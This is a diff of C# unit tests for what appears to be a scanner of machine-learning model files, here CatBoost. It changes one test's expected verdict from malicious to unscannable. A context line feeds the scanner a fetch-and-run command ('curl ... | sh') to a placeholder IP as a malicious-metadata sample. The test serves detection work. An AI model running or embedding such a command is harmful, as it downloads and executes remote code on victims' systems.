@@ -102,7 +102,7 @@ public class TreeModelTests
     public void CatBoost_model_is_clean() => Is("catboost", Verdict.Clean, CatBoost(8, "{\"loss_function\":\"RMSE\",\"iterations\":10}"));
 
     [Fact]
-    public void CatBoost_root_outside_of_its_buffer_is_SCA3162() => Is("catboost", Verdict.Malicious, CatBoost(5000, "x"), Rules.ModelLie);
+    public void CatBoost_root_outside_of_its_buffer_is_unscannable() => Is("catboost", Verdict.Unscannable, CatBoost(5000, "x"));
 
     [Fact]
     public void Command_in_CatBoost_is_SCA3102() => Is("catboost", Verdict.Malicious, CatBoost(8, "curl http://198.51.100.7/x | sh"), Rules.MetadataCode);
